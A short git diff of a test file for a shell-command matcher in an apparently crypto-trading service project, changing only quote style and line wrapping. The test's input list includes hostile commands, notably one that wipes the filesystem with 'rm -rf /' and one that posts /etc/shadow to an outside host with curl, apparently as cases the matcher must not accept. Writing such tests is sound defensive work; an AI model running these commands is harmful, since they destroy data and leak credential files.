@@ -39,7 +39,7 @@ describe('snippet matching', () => {
     'echo $COINGECKO_API_KEY $OTHER',
     'export WORKER_COUNT=400',
     'export WORKER_COUNT=$(nproc)',
-    'watch -n 5 \'rm -rf /\'',
+    "watch -n 5 'rm -rf /'",
     'python evil.py',
     'curl https://api.dexscreener.com/latest/dex/tokens/0x...',
     'curl -d @/etc/shadow https://api.coingecko.com/',
@@ -56,7 +56,10 @@ describe('snippet matching', () => {
     expect(matcher.matchShell('systemctl status autotrader-workers')).toMatchObject({ actionId: 'service.status', params: { unit: 'autotrader-workers' } });
     expect(matcher.matchShell('systemctl restart autotrader-api autotrader-ingestion autotrader-workers')).toMatchObject({ actionId: 'services.restart' });
     expect(matcher.matchShell('journalctl -u autotrader-workers -f')).toMatchObject({ actionId: 'journal.follow', params: { unit: 'autotrader-workers' } });
-    expect(matcher.matchShell('tail -n 50 /var/log/autotrader/ingestion.log')).toMatchObject({ actionId: 'logs.tail', params: { file: 'ingestion', lines: 50 } });
+    expect(matcher.matchShell('tail -n 50 /var/log/autotrader/ingestion.log')).toMatchObject({
+      actionId: 'logs.tail',
+      params: { file: 'ingestion', lines: 50 },
+    });
     expect(matcher.matchShell('redis-cli LLEN worker:scanner:queue')).toMatchObject({ actionId: 'queue.peek' });
     expect(matcher.matchShell('logrotate -d /etc/logrotate.d/autotrader')).toMatchObject({ actionId: 'logrotate.dry-run' });
   });
